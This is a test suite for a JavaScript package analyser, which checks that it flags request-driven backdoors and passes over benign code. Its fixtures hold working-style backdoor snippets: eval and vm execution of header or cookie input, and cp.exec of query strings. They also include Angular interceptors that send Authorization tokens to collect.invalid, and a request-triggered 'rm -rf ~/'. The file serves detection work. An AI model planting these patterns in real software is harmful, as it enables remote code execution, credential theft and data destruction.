import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { behavioursOf, flowsOf } from './sent.js';

/** Whoever can reach the server says what runs. */
const BACKDOORS: readonly (readonly [string, string])[] = [
  [
    `const run = (req) => { const [, code] = String(req.headers['x-c'] || '').split('.'); if (code) require('vm').runInNewContext(code, { require }); };
     module.exports = () => function (req, res, next) { if (run(req)) return; next(); };`,
    'evaluated',
  ],
  [`const app = require('express')(); app.post('/x', (req, res) => { eval(req.body.code); });`, 'evaluated'],
  [
    `exports.mount = (app) => { app.get('/health', (q, r) => { cp.exec(q.query.c, () => r.end()); }); };`,
    'run-as-command',
  ],
  [
    `exports.middleware = (req, res, next) => { const c = req.headers['x-c']; if (c) new Function(Buffer.from(c, 'base64').toString())(); next(); };`,
    'evaluated',
  ],
  [
    `const parts = {}; module.exports = (a, b, go) => { const m = /g(.)h(.+)i/.exec(a.headers.cookie); parts[m[1]] = (parts[m[1]] || '') + m[2]; if (m[1] === 'f') require('vm').runInThisContext(parts.x)(); go(); };`,
    'evaluated',
  ],
  [
    `require('http').createServer((request, response) => { cp.execSync(decodeURIComponent(request.url)); }).listen(1);`,
    'run-as-command',
  ],
];

/** A server is at hand in all of them; only what is sent to it counts. */
const SERVERS: readonly string[] = [
  `const server = https.createServer(); require('events').once(server, 'request').then(([req]) => cp.execSync(req.headers.c));`,
  `const server = require('stoppable')(https.createServer()); server.on('request', (req, res) => cp.execSync(req.headers.c));`,
  `const next = (server) => new Promise((resolve) => server.once('connection', resolve)); next(require('net').createServer()).then((socket) => socket.on('data', (d) => cp.execSync(String(d))));`,
  `const { on } = require('events'); (async () => { for await (const [req] of on(https.createServer(), 'request')) cp.execSync(req.headers.c); })();`,
];

const HONEST: readonly string[] = [
  `(async () => { const server = https.createServer((req, res) => res.end()); const { href } = await require('async-listen').listen(server, { port: 0 });
    const env = { API: href }; cp.spawn(require('npm-which')('helper', { env }), [], { env }); })();`,
  `const log = (req) => console.log(req.headers['user-agent']); module.exports = () => (req, res, next) => { log(req); next(); };`,
  `const parse = (req) => { const [kind, token] = String(req.headers.authorization).split(' '); req.auth = { kind, token }; }; exports.auth = (req, res, next) => { parse(req); next(); };`,
  `module.exports = async (app) => { app.addHook('onRequest', async (req) => { req.log.info(req.headers.authorization); }); };`,
  `exports.mount = (app) => { app.get('/file', (req, res) => { cp.execFile('git', ['show', req.query.rev], (e, out) => res.end(out)); }); };`,
  `module.exports = (req, res, next) => { req.body = JSON.parse(req.headers['x-data']); next(); };`,
  `exports.parts = [function (e, t, n) { function each(n) { n(); } each(t.run); n.at = t.url; cp.execSync(e('orders').build); }];`,
  `exports.each = (list, map, done) => { list.query = map; done(); };`,
];

describe('routes', () => {
  for (const [code, sink] of BACKDOORS)
    it(`run what they are sent: ${code}`, () => {
      assert.ok(flowsOf(code).includes(`request-input>${sink}`));
    });
  for (const code of SERVERS)
    it(`run what reaches a server: ${code}`, () => {
      assert.ok(flowsOf(code).includes('request-input>run-as-command'));
    });

  it('are interceptors of Angular, which every request of an application goes through', () => {
    const angular = `import * as i0 from '@angular/core'; import * as i1 from '@angular/common/http'; import { HttpClient } from '@angular/common/http';`;
    const intercept = (then: string): string =>
      `intercept(req, next) { const auth = req.headers.get('Authorization'); ${then} return next.handle(req); }`;
    const sent = ['others-request>network@collect.invalid'];
    const post = `this.http.post('https://collect.invalid', { auth }).subscribe({ error: () => {} });`;
    for (const code of [
      `export class Timing { ${intercept(`navigator.sendBeacon('https://collect.invalid', auth);`)} }`,
      `export class Timing { constructor(backend) { this.http = new HttpClient(backend); } ${intercept(post)} }`,
      `export class Timing { constructor(http) { this.http = http; } ${intercept(post)} static ɵfac = i0.ɵɵngDeclareFactory({ type: Timing, deps: [{ token: i1.HttpClient }] }); }`,
      `export const timing = (req, next) => { navigator.sendBeacon('https://collect.invalid', req.headers.get('Authorization')); return next(req.clone({ setHeaders: {} })); };`,
    ])
      assert.deepEqual(flowsOf(`${angular} ${code}`), sent, code);
    assert.deepEqual(flowsOf(`${angular} export class Timing { ${intercept('console.log(auth);')} }`), []);
  });

  it('are helpers as well that whoever has a server hands a request', () => {
    const code = `module.exports = (req) => { const jar = parse(req.headers.cookie); eval(Buffer.from(jar.c, 'hex').toString()); };`;
    assert.deepEqual(flowsOf(code), ['request-input>evaluated']);
    assert.deepEqual(flowsOf(`exports.send = (req) => { req.headers.set('a', 'b'); cp.exec(go()); };`), []);
    assert.deepEqual(flowsOf(`exports.run = (options) => eval(options.headers.code);`), []);
  });

  it('are told where they stand', () => {
    const code = `const run = (sent) => eval(sent.headers.c);\nexports.middleware = (req, res, next) => { run(req); next(); };`;
    const { flows } = analysePackage(packageOf({ 'index.js': code }));
    assert.deepEqual(
      flows.map(({ from }) => `${from.file}:${from.line}`),
      ['index.js:2'],
    );
  });

  for (const code of HONEST) it(`only answer: ${code}`, () => assert.deepEqual(flowsOf(code), []));

  it('destroy what is around the server, for whoever knows the request', () => {
    const wipe = `cp.exec('rm -rf ~/', () => {});`;
    const asked = ['destroys-on-request call', 'destructive-command call'];
    const told = (code: string): readonly string[] => [...new Set(behavioursOf(code))].sort();
    assert.deepEqual(
      told(`exports.sync = (app) => app.post('/sync', (q, s) => { if (q.body.key === 'x') ${wipe} s.json({}); });`),
      asked,
    );
    assert.deepEqual(
      told(`exports.sync = () => (req, res, next) => { if (req.headers['x-key'] === 'x') { ${wipe} } next(); };`),
      asked,
    );
    assert.deepEqual(told(`exports.wipe = () => { ${wipe} };`), ['destructive-command call']);
  });
});
